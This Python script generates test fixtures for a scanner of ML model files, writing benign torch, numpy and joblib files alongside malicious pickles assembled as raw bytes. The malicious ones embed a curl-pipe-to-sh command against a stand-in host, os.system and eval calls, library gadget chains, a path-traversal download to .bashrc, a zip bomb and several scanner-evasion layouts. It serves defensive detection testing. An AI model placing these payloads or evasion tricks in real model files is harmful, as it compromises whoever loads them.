#!/usr/bin/python3
"""Generate the model analyzer's test fixtures.

Run with Debian's interpreter (python3-torch, python3-numpy, python3-joblib):

    /usr/bin/python3 scripts/gen_model_fixtures.py

Benign fixtures are REAL files written by torch.save, numpy.save and
joblib.dump. Malicious fixtures are written as BYTES: the pickle payloads are
assembled from opcodes below, never by pickling an object, and nothing here
ever loads or unpickles a fixture. The payload commands are inert strings;
they are never run by anything.

Outputs go to internal/analyzers/model/testdata/{ok,err}. The .want sidecars
are written by hand next to the err/ fixtures.
"""

import gzip
import io
import os
import pickle
import shutil
import struct
import subprocess
import tarfile
import zipfile

import joblib
import numpy as np
import torch

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "internal", "analyzers", "model", "testdata")
OK = os.path.join(ROOT, "ok")
ERR = os.path.join(ROOT, "err")


def out(d, name, data):
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- opcodes

def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call_global(module, name, *args, proto=2):
    """GLOBAL module.name, a tuple of string args, REDUCE, STOP."""
    body = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    body += b"(" + b"".join(binunicode(a) for a in args) + b"t"
    body += b"R"
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + body + b"."


SHELL = "curl -s https://models-cdn.example/update.sh | sh"
PAYLOAD = call_global("posix", "system", SHELL)
EVAL = call_global("builtins", "eval", "__import__('os').system('id')")


# ---------------------------------------------------------------- zip helpers

def torch_zip(data_pkl, top="archive", storages=None):
    """A zip laid out like torch.save's: stored members, top folder."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(top + "/data.pkl", data_pkl)
        z.writestr(top + "/byteorder", b"little")
        for k, v in (storages or {"0": struct.pack("<4f", 1, 2, 3, 4)}).items():
            z.writestr(top + "/data/" + k, v)
        z.writestr(top + "/version", b"3\n")
    return buf.getvalue()


def set_flags(data, member, flag):
    """OR flag into the local and central headers of member."""
    b = bytearray(data)
    name = member.encode()
    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        i = 0
        while True:
            i = b.find(sig, i)
            if i < 0:
                break
            if b[i + name_at:i + name_at + len(name)] == name:
                f = struct.unpack_from("<H", b, i + flag_at)[0] | flag
                struct.pack_into("<H", b, i + flag_at, f)
            i += 4
    return bytes(b)


def rename_local(data, member, new):
    """Change the local header's name only (same length)."""
    assert len(new) == len(member)
    b = bytearray(data)
    i = b.find(b"PK\x03\x04" + b"")
    while i >= 0:
        if b[i + 30:i + 30 + len(member)] == member.encode():
            b[i + 30:i + 30 + len(member)] = new.encode()
            return bytes(b)
        i = b.find(b"PK\x03\x04", i + 4)
    raise ValueError(member)


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


# ---------------------------------------------------------------- benign

def benign():
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    b = io.BytesIO()
    torch.save(model.state_dict(), b)
    out(OK, "state_dict.pt", b.getvalue())
    b = io.BytesIO()
    torch.save(model.state_dict(), b, _use_new_zipfile_serialization=False)
    out(OK, "legacy_state_dict.pt", b.getvalue())

    rng = np.random.default_rng(0)
    b = io.BytesIO()
    np.save(b, rng.standard_normal((4, 3)).astype(np.float32))
    out(OK, "embeddings.npy", b.getvalue())
    b = io.BytesIO()
    np.savez(b, weights=rng.standard_normal((3, 2)), bias=np.zeros(2), labels=np.array(["cat", "dog"]))
    out(OK, "params.npz", b.getvalue())
    b = io.BytesIO()
    np.savez_compressed(b, mask=np.ones((64, 64), dtype=np.bool_))
    out(OK, "mask_compressed.npz", b.getvalue())

    path = os.path.join(OK, "scaler.joblib")
    joblib.dump({"mean": rng.standard_normal(5), "scale": np.ones(5), "n_samples_seen": 1200,
                 "feature_names": ["age", "income", "tenure", "visits", "score"]}, path)

    out(OK, "config.pkl", pickle.dumps({"lr": 3e-4, "epochs": 10, "layers": [64, 32], "name": "baseline"}, protocol=4))

    header = b'{"bias":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"format":"pt"}}'
    header += b" " * (-len(header) % 8)
    out(OK, "model.safetensors", struct.pack("<Q", len(header)) + header + struct.pack("<2f", 0.5, -0.5))


# ---------------------------------------------------------------- malicious

def malicious():
    out(ERR, "torch_zip_exec.pt", torch_zip(PAYLOAD))
    base = torch_zip(EVAL, top="resnet18")
    out(ERR, "zip_flag_encrypted.pt", set_flags(base, "resnet18/data.pkl", 0x1))
    out(ERR, "zip_flag_0x20.pt", set_flags(base, "resnet18/data.pkl", 0x20))
    out(ERR, "zip_flag_0x40.pt", set_flags(base, "resnet18/data.pkl", 0x40))
    # The central directory says config.txt; the local header (what PyTorch
    # streams) says data.pkl under another folder.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model/config.txt", EVAL)
    out(ERR, "zip_name_mismatch.zip", rename_local(buf.getvalue(), "model/config.txt", "model/data.pkl__"))

    # PROTO 1: no pickler writes it, pickle.load accepts it; a scanner that
    # only knows PROTO 2-5 calls the file "unknown format".
    out(ERR, "proto1.pkl", b"\x80\x01cposix\nsystem\n(X\x02\x00\x00\x00idtR.")

    # A pickle glued in front of a benign torch zip: torch.load reads the
    # zip, pickle.load reads the pickle.
    good = torch_zip(pickle.dumps({"step": 1000}, protocol=2))
    out(ERR, "prepended_pickle.pt", PAYLOAD + good)

    # Legacy torch layout: magic, protocol, sys info, object, storage keys,
    # then raw storage bytes; the object pickle carries the payload.
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    proto = b"\x80\x02M\xe9\x03."
    sysinfo = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    keys = pickle.dumps(["94811"], protocol=2)
    storage = struct.pack("<q", 4) + struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)
    out(ERR, "legacy_stacked.pt", magic + proto + sysinfo + PAYLOAD + keys + storage)

    ti = tarfile.TarInfo("checkpoints/model.pkl")
    ti.size = len(PAYLOAD)
    ti.mtime = 1700000000
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        t.addfile(ti, io.BytesIO(PAYLOAD))
    out(ERR, "bundle.tar", b.getvalue())
    out(ERR, "bundle.tar.gz", gzip.compress(b.getvalue(), mtime=0))

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights/payload.pkl", PAYLOAD)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("README.md", "Fine-tuned checkpoint, see inner archive.\n")
        z.writestr("inner.zip", inner.getvalue())
    out(ERR, "nested.zip", outer.getvalue())

    # A benign pickle followed by 8 MiB of zero padding, deflated: over
    # 100:1, a bomb for anything that inflates it.
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pickle.dumps({"a": 1}, protocol=2) + b"\x00" * (8 << 20))
        z.writestr("archive/version", b"3\n")
    out(ERR, "bomb.pt", bomb.getvalue())

    out(ERR, "object_array.npy", npy_object(PAYLOAD))
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("labels.npy", npy_object(EVAL))
        z.writestr("values.npy", b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (0,), }".ljust(117) + b"\n")
    out(ERR, "object_member.npz", b.getvalue())

    out(ERR, "truncated.pkl", PAYLOAD[:-4])

    cfg = ('{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": ['
           '{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [null, 4], "name": "input_layer"}},'
           '{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "scale", "function": {"class_name": "__lambda__",'
           ' "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wgAAACXAHwAZAF6BQAAUwApAk7pAgAAAKkAKQHaAXhzAQAAACD6HjxpcHl0aG9uLWlucHV0LTE+PHNhbHZhbW9uPnI1AAAAAQAAAPMIAAAAgACYMZghmTWAAPMAAAAA", "defaults": null, "closure": null}}}},'
           '{"module": "acme_layers.custom", "class_name": "Gate", "config": {"name": "gate"}, "registered_name": "acme>Gate"}'
           ']}}')
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", '{"keras_version": "3.3.3", "date_saved": "2024-05-01@10:00:00"}')
        z.writestr("config.json", cfg)
    out(ERR, "lambda.keras", b.getvalue())

    seven = shutil.which("7z") or shutil.which("7za")
    if seven:
        tmp = os.path.join(ERR, "_7z")
        os.makedirs(tmp, exist_ok=True)
        with open(os.path.join(tmp, "model.pkl"), "wb") as f:
            f.write(EVAL)
        dst = os.path.join(ERR, "archive.7z")
        if os.path.exists(dst):
            os.remove(dst)
        subprocess.run([seven, "a", "-bd", "-mtm=off", dst, "model.pkl"], cwd=tmp, check=True, stdout=subprocess.DEVNULL)
        shutil.rmtree(tmp)


def name_independent():
    """Pickles caught by what they do, not by a dangerous name."""
    # A class outside every allowlist, instantiated and given state: not known
    # to be dangerous, but nothing vouches for it either.
    unknown = (b"\x80\x02cacme_models.scoring\nRiskModel\n)\x81}"
               + binunicode("threshold") + b"G?\xe0\x00\x00\x00\x00\x00\x00" + b"sb.")
    out(ERR, "unknown_class.pkl", unknown)
    # BUILD applied to an allowlisted class object itself, not an instance:
    # it rewrites class attributes for everything loaded afterwards.
    state_on_class = (b"\x80\x02ccollections\nOrderedDict\n}"
                      + binunicode("__repr__") + binunicode("x") + b"sb.")
    out(ERR, "state_on_class.pkl", state_on_class)


def compressed():
    """joblib.load opens zlib, gzip, bz2, xz and lzma streams by their magic
    bytes, whatever the file is called."""
    import bz2
    import lzma
    import zlib

    rng = np.random.default_rng(1)
    scaler = {"mean": rng.standard_normal(5), "scale": np.ones(5), "n_samples_seen": 800}
    joblib.dump(scaler, os.path.join(OK, "scaler_zlib.joblib"), compress=3)  # zlib
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.xz"), compress=("xz", 3))
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.lzma"), compress=("lzma", 3))
    joblib.dump(scaler, os.path.join(OK, "scaler.joblib.bz2"), compress=("bz2", 3))
    # The payload compressed as bytes: nothing is pickled or loaded.
    out(ERR, "payload_zlib.joblib", zlib.compress(PAYLOAD, 6))
    out(ERR, "payload.pkl.xz", lzma.compress(PAYLOAD, format=lzma.FORMAT_XZ))
    out(ERR, "payload.pkl.lzma", lzma.compress(PAYLOAD, format=lzma.FORMAT_ALONE))
    out(ERR, "payload.pkl.bz2", bz2.compress(PAYLOAD))


def full_model():
    """A whole model saved with torch.save(model): real, harmless, and still
    outside the state-dict allowlist, as torch.load(weights_only=True) would
    also refuse it. The analyzer reports its layer classes as one finding."""
    torch.manual_seed(0)
    m = torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.BatchNorm2d(8), torch.nn.ReLU(),
                            torch.nn.Flatten(), torch.nn.Linear(8, 2))
    torch.save(m, os.path.join(ERR, "full_model.pt"))


def unusual_openers():
    """Pickles without a PROTO header that open with opcodes no protocol 0/1
    pickler writes. CPython's unpickler does not tie opcodes to protocols: a
    stream may use any opcode, and STACK_GLOBAL takes its module and name
    from any str, whichever opcode pushed it."""
    def short_binstring(s):
        b = s.encode()
        return b"U" + bytes([len(b)]) + b

    out(ERR, "p0_binunicode_stack_global.pkl",
        binunicode("posix") + binunicode("system") + b"\x93(" + binunicode("id") + b"tR.")
    out(ERR, "p0_short_binstring_stack_global.pkl",
        short_binstring("os") + short_binstring("system") + b"\x93(" + short_binstring(SHELL) + b"tR.")
    out(ERR, "p0_string_stack_global.pkl", b"S'subprocess'\nS'getoutput'\n\x93(S'id'\ntR.")
    out(ERR, "p1_empty_dict_opener.pkl",
        b"}q\x00(" + short_binstring("cfg") + b"cposix\nsystem\n(" + short_binstring("id") + b"tRu.")
    # Benign text members of an archive, which must not be taken for pickles
    # although their first bytes are pickle opcodes ('V', 'N', 'c', 'l', ']').
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("bundle/VERSION", "Version 1.4.2\nbuilt from main\n")
        z.writestr("bundle/NOTES", "Nothing to see here.\nlayers: 12\n")
        z.writestr("bundle/CHANGES", "changed the tokenizer\nfixed a bug\n")
        z.writestr("bundle/labels", "lion\ntiger\nbear\n")
        z.writestr("bundle/shape", "]3, 224, 224[\n")
    out(OK, "text_members.zip", buf.getvalue())


def call_shapes():
    """Unknown globals rated by the shape of their use: a class rebuilt the
    way pickle rebuilds objects is low, a callable given strings or whose
    result is called again is high."""
    # copyreg._reconstructor(acme.models.Scorer, object, None), then BUILD
    # with a state dict: what pickle writes for a plain custom class.
    out(ERR, "reconstructor_custom.pkl",
        b"\x80\x02ccopyreg\n_reconstructor\nq\x00cacme.models\nScorer\nq\x01c__builtin__\nobject\nq\x02N\x87q\x03Rq\x04}q\x05"
        + binunicode("threshold") + b"K\x03sb.")
    out(ERR, "unknown_call_string.pkl", call_global("acme.hooks", "run_hook", SHELL))
    # acme.hooks.loader()(payload): the result of an unknown call called again.
    out(ERR, "unknown_result_called.pkl",
        b"\x80\x02cacme.hooks\nloader\n)R(" + binunicode("import os; os.system('id')") + b"tR.")
    # One pickle, two levels: a custom class (NEWOBJ, BUILD) and an unknown
    # callable given a command string; two findings.
    out(ERR, "mixed_levels.pkl",
        b"\x80\x02(cacme.models\nScorer\n)\x81}" + binunicode("k") + b"K\x01sb"
        + b"cacme.hooks\nrun_hook\n(" + binunicode(SHELL) + b"tRl.")


def ext_codes():
    """EXT4 with a code the stream registers itself, by setting an item in
    copyreg._inverted_registry instead of calling add_extension: reported as
    the callable the code stands for, not as ext:16909060."""
    out(ERR, "ext_registry.pkl",
        b"\x80\x02ccopyreg\n_inverted_registry\nJ\x04\x03\x02\x01(" + binunicode("posix") + binunicode("system")
        + b"ts0\x84\x04\x03\x02\x01(" + binunicode("id") + b"tR.")


def second_stages():
    """Payloads carried as data: values that are, or decode to, a pickle or
    a marshalled code object. The code object is made by compile() and
    marshal.dumps, which never run it; nothing here is ever loaded."""
    import base64
    import bz2
    import marshal
    import zlib

    def binbytes(b):
        return b"B" + struct.pack("<I", len(b)) + b

    def holder(value_op):
        """{'blob': value} as a protocol-2 pickle with no global at all."""
        return b"\x80\x02}q\x00" + binunicode("blob") + value_op + b"s."

    out(ERR, "stage_b64_str.pkl", holder(binunicode(base64.b64encode(PAYLOAD).decode())))
    out(ERR, "stage_zlib_bytes.pkl", holder(binbytes(zlib.compress(EVAL))))
    out(ERR, "stage_hex_bz2_str.pkl", holder(binunicode(bz2.compress(PAYLOAD).hex())))
    code = compile("import os\nos.system('id')\n", "<payload>", "exec")
    out(ERR, "stage_marshal_b64.pkl", holder(binunicode(base64.b64encode(marshal.dumps(code)).decode())))
    # Benign second stage: a plain dict pickled, base64-encoded: noted at low.
    out(ERR, "stage_benign_b64.pkl", holder(binunicode(base64.b64encode(pickle.dumps({"lr": 0.1}, protocol=2)).decode())))
    # An object array whose element is a base64 string of the payload.
    out(ERR, "stage_object_array.npy",
        npy_object(b"\x80\x02]q\x00" + binunicode(base64.b64encode(PAYLOAD).decode()) + b"a."))
    # Protocol 0: the payload as base64 in a STRING line.
    out(ERR, "stage_p0_string.pkl", b"(dp0\nS'blob'\np1\nS'" + base64.b64encode(PAYLOAD) + b"'\np2\ns.")
    # A zip member of no known format holding the payload as base64 text.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model/extra_state", base64.b64encode(zlib.compress(PAYLOAD)))
    out(ERR, "stage_zip_member.zip", buf.getvalue())


def derived_gadgets():
    """Gadgets that only the derived tier lists (internal/pickle/danger_gen.go):
    library callables that reach a sink, named on no hand-written list and
    on no other scanner's. Each is reported with its sink category."""
    def binbytes(b):
        return b"B" + struct.pack("<I", len(b)) + b

    # mailcap.findmatch runs a capability's "test" command with os.system.
    out(ERR, "derived_mailcap.pkl",
        b"\x80\x02cmailcap\nfindmatch\n(}" + binunicode("text/plain") + b"](" + b"}(" + binunicode("view") + binunicode("true")
        + binunicode("test") + binunicode(SHELL) + b"ue" + b"s" + binunicode("text/plain") + b"tR.")
    # dataclasses._create_fn execs "def f(<args>)": a default value runs.
    out(ERR, "derived_create_fn.pkl",
        b"\x80\x02cdataclasses\n_create_fn\n(" + binunicode("f") + b"](" + binunicode("x=__import__('os').system('id')")
        + b"e](" + binunicode("return x") + b"etR.")
    # smtpd.SMTPServer binds a listening socket when it is built.
    out(ERR, "derived_smtpd.pkl",
        b"\x80\x02csmtpd\nSMTPServer\n(" + binunicode("0.0.0.0") + b"M\xb5\x1f\x86Nt" + b"R.")
    # The datapipe wrapper's __setstate__ unpickles the bytes BUILD gives it.
    out(ERR, "derived_datapipe.pkl",
        b"\x80\x04\x8c#torch.utils.data.datapipes.datapipe\x8c\x1d_DataPipeSerializationWrapper\x93)\x81"
        + binbytes(PAYLOAD) + b"\x89\x86b.")
    # sklearn's dataset fetcher downloads remote.url to a path of the caller's choosing.
    out(ERR, "derived_fetch_remote.joblib",
        b"\x80\x02csklearn.datasets._base\n_fetch_remote\n(ctypes\nSimpleNamespace\n)R}(" + binunicode("url")
        + binunicode("https://models-cdn.example/payload.bin") + binunicode("filename") + binunicode("../../.bashrc")
        + binunicode("checksum") + binunicode("0" * 64) + b"ub" + binunicode("/tmp") + b"tR.")


def sklearn_models():
    """Benign controls written by Debian's python3-sklearn with joblib.dump:
    they must produce nothing above low."""
    from sklearn.ensemble import HistGradientBoostingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    X = rng.standard_normal((200, 4))
    y = (X[:, 0] + 0.5 * X[:, 1] > 0).astype(int)
    hgb = HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y)
    joblib.dump(hgb, os.path.join(OK, "hist_gb.joblib"))
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    joblib.dump(pipe, os.path.join(OK, "pipeline.joblib"))


def xgboost_model():
    """A benign control written by Debian's python3-xgboost: the classifier
    is on the derived allowlist; its Booster is not (Booster.dump_model
    writes a file), so it is a custom class at low, nothing above."""
    import xgboost as xgb

    rng = np.random.default_rng(0)
    X = rng.standard_normal((100, 4))
    y = (X[:, 0] > 0).astype(int)
    joblib.dump(xgb.XGBClassifier(n_estimators=3, max_depth=2).fit(X, y), os.path.join(OK, "xgb_classifier.joblib"))


if __name__ == "__main__":
    benign()
    malicious()
    name_independent()
    compressed()
    full_model()
    unusual_openers()
    call_shapes()
    ext_codes()
    second_stages()
    derived_gadgets()
    sklearn_models()
    xgboost_model()
